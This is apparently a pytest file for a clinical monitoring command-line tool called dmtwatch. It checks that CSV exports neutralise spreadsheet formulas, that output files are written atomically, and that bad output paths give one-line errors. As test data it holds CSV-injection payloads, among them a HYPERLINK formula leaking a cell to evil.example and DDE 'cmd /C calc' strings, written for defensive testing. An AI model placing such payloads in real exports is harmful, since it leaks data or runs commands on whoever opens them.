"""What we write: CSV cells a spreadsheet would run are neutralised (OWASP CSV injection),
`--out` creates missing folders or says in one line why not, and every output file is
written whole or not at all (a failure midway leaves the previous file's bytes)."""

from __future__ import annotations

import csv
import errno
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from dmtwatch.cli import app
from dmtwatch.render.output import (
    FORMULA_STARTS,
    OutputError,
    atomic_file,
    safe_cell,
    write_text,
    write_via,
)

VIGNETTES = Path(__file__).parent / "vignettes"
PREVIOUS = b"the previous file, whole\n"

# hostile patient ids: each starts a cell a spreadsheet would evaluate
HOSTILE_IDS = {
    "S01": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "S02": "+1+cmd|' /C calc'!A0",
    "S03": "-2+3",
}
HOSTILE_TERM = "=cmd|' /C calc'!A0"


def dmtwatch(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "dmtwatch", *args], capture_output=True, text=True, timeout=300
    )


def evaluable(cell: str) -> bool:
    return cell.lstrip(" \n").startswith(FORMULA_STARTS)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text: an id or a term, not a number
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("H02", "H02"),
        ("a=b", "a=b"),
        ("", ""),
        (-1.5, -1.5),  # numbers stay numbers
        (-3, -3),
        (None, None),
    ],
)
def test_safe_cell_quotes_only_text_a_spreadsheet_would_evaluate(value, written) -> None:
    assert safe_cell(value) == written


def hostile_clinic(tmp_path: Path) -> Path:
    """The stroke vignette with hostile patient ids and a hostile adverse-event term."""
    folder = tmp_path / "hostile"
    shutil.copytree(VIGNETTES / "stroke_recorded_as_adverse_event", folder)
    for name in ("patients.csv", "treatments.csv", "adverse_events.csv"):
        rows = list(csv.reader((folder / name).open(newline="")))
        for row in rows[1:]:
            row[0] = HOSTILE_IDS[row[0]]
            if name == "adverse_events.csv" and row[2] == "left hemiparesis":
                row[2] = HOSTILE_TERM
        with (folder / name).open("w", newline="") as f:
            csv.writer(f).writerows(rows)
    return folder


def test_check_csv_neutralises_hostile_ids_and_terms(tmp_path: Path) -> None:
    target = tmp_path / "not" / "yet" / "there" / "worklist.csv"  # folders are created
    proc = dmtwatch(
        "check", "--data", str(hostile_clinic(tmp_path)), "--as-of", "2016-01-01",
        "--format", "csv", "--out", str(target),
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(target.open(newline="", encoding="utf-8")))
    header, body = rows[0], rows[1:]
    assert body
    assert not [cell for row in rows for cell in row if evaluable(cell)]
    ids = {row[header.index("patient_id")] for row in body}
    assert ids == {"'" + v for v in HOSTILE_IDS.values()}  # the text itself is kept
    stroke = [row for row in body if row[header.index("code")] == "CNS-STROKE"]
    assert stroke and HOSTILE_TERM in stroke[0][header.index("detail")]


def hostile_reports(tmp_path: Path) -> Path:
    """Spontaneous reports whose drug and event names are formulas."""
    drugs = ["=DRUG()", "+PLUS", "@AT", "-MINUS", "SAFE"]
    events = ["=1+1", "-2+3", "HEADACHE", "NAUSEA", "@SUM(A1)"]
    path = tmp_path / "reports.csv"
    with path.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["report_id", "drug", "event"])
        n = 0
        for i, drug in enumerate(drugs):
            for j, event in enumerate(events):
                for _ in range(1 + (i * 7 + j * 3) % 11):
                    n += 1
                    w.writerow([f"r{n}", drug, event])
    return path


def test_signals_csv_neutralises_text_and_keeps_negative_numbers(tmp_path: Path) -> None:
    target = tmp_path / "new-folder" / "signals.csv"
    proc = dmtwatch(
        "signals", "--reports", str(hostile_reports(tmp_path)), "--format", "csv",
        "--out", str(target),
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(target.open(newline="", encoding="utf-8")))
    assert rows
    for row in rows:
        for column in ("drug", "event"):
            assert not evaluable(row[column]), row
    quoted = {r["drug"] for r in rows} | {r["event"] for r in rows}
    assert {"'=DRUG()", "'+PLUS", "'@AT", "'-MINUS", "'=1+1", "'-2+3", "'@SUM(A1)"} <= {
        q.upper() for q in quoted
    }
    ic025 = [float(r["ic025"]) for r in rows if r["ic025"]]
    assert any(v < 0 for v in ic025), "a negative number is written as a number"
    assert all(not r["ic025"].startswith("'") for r in rows)


# -- atomic writes -----------------------------------------------------------------------


def _invoke(*args: str):
    return CliRunner().invoke(app, list(args))


def _assert_failed_cleanly(result, target: Path, exit_code: int = 1) -> None:
    assert result.exit_code == exit_code, (result.output, result.exception)
    assert result.exception is None or isinstance(result.exception, SystemExit)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and str(target) in lines[0], result.stderr
    assert "Traceback" not in result.output + result.stderr
    assert target.read_bytes() == PREVIOUS
    assert sorted(p.name for p in target.parent.iterdir()) == [target.name], "no temp file"


def _failing_midway(write_part):
    def fail(*args, **kwargs):
        write_part(*args, **kwargs)
        raise OSError(errno.ENOSPC, "No space left on device")

    return fail


@pytest.mark.parametrize("fmt", ["csv", "table"])
def test_check_out_failing_midway_leaves_the_previous_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    from dmtwatch.render import worklist

    target = tmp_path / "out" / f"worklist.{fmt}"
    target.parent.mkdir()
    target.write_bytes(PREVIOUS)

    def part_csv(result, file):
        file.write("severity,date,patient_id\nurgent,2015-")
        file.flush()

    def part_table(result, console, limit=None):
        console.file.write("worklist as of")
        console.file.flush()

    if fmt == "csv":
        monkeypatch.setattr(worklist, "write_csv", _failing_midway(part_csv))
    else:
        monkeypatch.setattr(worklist, "print_table", _failing_midway(part_table))
    data = str(VIGNETTES / "relapse_without_mri")
    result = _invoke(
        "check", "--data", data, "--as-of", "2015-06-20", "--format", fmt, "--out", str(target)
    )
    _assert_failed_cleanly(result, target)
    assert "No space left on device" in result.stderr


def test_signals_table_goes_to_out_when_given(tmp_path: Path) -> None:
    target = tmp_path / "new" / "signals.txt"
    args = ("signals", "--reports", str(hostile_reports(tmp_path)), "--out", str(target))
    result = _invoke(*args)
    assert result.exit_code == 0, result.output
    assert "Disproportionality" in target.read_text(encoding="utf-8")
    assert result.stdout.strip() == f"wrote {target}"


def test_signals_out_failing_midway_leaves_the_previous_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from dmtwatch.pv import render

    reports = hostile_reports(tmp_path)
    target = tmp_path / "out" / "signals.csv"
    target.parent.mkdir()
    target.write_bytes(PREVIOUS)

    def part(result, file):
        file.write("drug,event,n\nSAFE,HEADACHE,")
        file.flush()

    monkeypatch.setattr(render, "write_csv", _failing_midway(part))
    result = _invoke("signals", "--reports", str(reports), "--format", "csv", "--out", str(target))
    _assert_failed_cleanly(result, target)


def test_audit_pdf_failing_midway_leaves_the_previous_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from dmtwatch.outcomes import report

    target = tmp_path / "out" / "audit.pdf"
    target.parent.mkdir()
    target.write_bytes(PREVIOUS)

    def part(result, path):
        Path(path).write_bytes(b"%PDF-1.7\n% half a report")

    monkeypatch.setattr(report, "render_pdf", _failing_midway(part))
    data = str(VIGNETTES / "relapse_without_mri")
    result = _invoke(
        "audit", "--data", data, "--as-of", "2015-06-20", "--format", "pdf", "--out", str(target)
    )
    _assert_failed_cleanly(result, target)


def test_atomic_file_keeps_the_previous_file_on_any_failure(tmp_path: Path) -> None:
    target = tmp_path / "report.html"
    target.write_bytes(PREVIOUS)
    with pytest.raises(RuntimeError), atomic_file(target) as f:
        f.write("<html>half")
        raise RuntimeError("a renderer's bug")
    assert target.read_bytes() == PREVIOUS
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]

    def half_pdf(path: Path) -> None:
        path.write_bytes(b"%PDF half")
        raise OSError(errno.EIO, "Input/output error")

    with pytest.raises(OutputError, match=r"report\.pdf: Input/output error") as info:
        write_via(tmp_path / "report.pdf", half_pdf)
    assert not info.value.usage
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]


def test_atomic_file_replaces_whole_and_keeps_permissions(tmp_path: Path) -> None:
    target = tmp_path / "a" / "b" / "worklist.csv"
    write_text(target, "first\n")
    umask = os.umask(0o022)
    os.umask(umask)
    assert target.stat().st_mode & 0o777 == 0o666 & ~umask  # not mkstemp's 0600
    target.chmod(0o640)
    write_text(target, "second\n")
    assert target.read_text() == "second\n"
    assert target.stat().st_mode & 0o777 == 0o640
    assert [p.name for p in target.parent.iterdir()] == ["worklist.csv"]


# -- --out that cannot be used -------------------------------------------------------------


@pytest.mark.parametrize("command", ["check", "audit", "signals", "synth"])
def test_out_under_a_file_is_one_line_and_a_usage_error(tmp_path: Path, command: str) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    target = blocker / "sub" / ("clinic" if command == "synth" else "out.json")
    data = str(VIGNETTES / "relapse_without_mri")
    args = {
        "check": ["--data", data, "--as-of", "2015-06-20", "--format", "json"],
        "audit": ["--data", data, "--as-of", "2015-06-20", "--format", "json"],
        "signals": ["--reports", str(hostile_reports(tmp_path)), "--format", "json"],
        "synth": ["--patients", "2"],
    }[command]
    result = _invoke(command, *args, "--out", str(target))
    assert result.exit_code == 64, (result.output, result.exception)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert str(target) in lines[0] and f"{blocker} is not a folder" in lines[0]
    assert blocker.read_text() == "not a folder"


def test_out_that_is_a_folder_is_refused(tmp_path: Path) -> None:
    data = str(VIGNETTES / "relapse_without_mri")
    result = _invoke("check", "--data", data, "--as-of", "2015-06-20", "--out", str(tmp_path))
    assert result.exit_code == 64
    assert result.stderr.strip() == f"error: cannot write {tmp_path}: it is a folder"


def test_synth_and_audit_create_missing_folders(tmp_path: Path) -> None:
    result = _invoke("synth", "--patients", "3", "--out", str(tmp_path / "x" / "y" / "clinic"))
    assert result.exit_code == 0, result.output
    assert (tmp_path / "x" / "y" / "clinic" / "patients.csv").exists()
    assert not list((tmp_path / "x" / "y" / "clinic").glob(".*"))
    target = tmp_path / "reports" / "2015" / "audit.html"
    data = str(VIGNETTES / "relapse_without_mri")
    result = _invoke("audit", "--data", data, "--as-of", "2015-06-20", "--out", str(target))
    assert result.exit_code == 0, result.output
    assert target.read_text(encoding="utf-8").lstrip().lower().startswith("<!doctype html")


def test_check_csv_to_stdout_is_neutralised_too(tmp_path: Path) -> None:
    proc = dmtwatch(
        "check", "--data", str(hostile_clinic(tmp_path)), "--as-of", "2016-01-01",
        "--format", "csv",
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(proc.stdout)))
    assert len(rows) > 1 and not [c for row in rows for c in row if evaluable(c)]


def test_docs_out_creates_folders_or_says_why_not(tmp_path: Path) -> None:
    from dmtwatch.render.finding_docs import pages

    target = tmp_path / "site" / "findings"
    result = _invoke("docs", "--out", str(target), "--vignettes", str(VIGNETTES))
    assert result.exit_code == 0, result.output
    expected = pages(VIGNETTES)
    assert {p.stem for p in target.iterdir()} == {*expected, "README"}
    assert all((target / f"{c}.md").read_text(encoding="utf-8") == t for c, t in expected.items())
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    result = _invoke("docs", "--out", str(blocker / "findings"), "--vignettes", str(VIGNETTES))
    assert result.exit_code == 64
    assert len(result.stderr.strip().splitlines()) == 1 and "is not a folder" in result.stderr
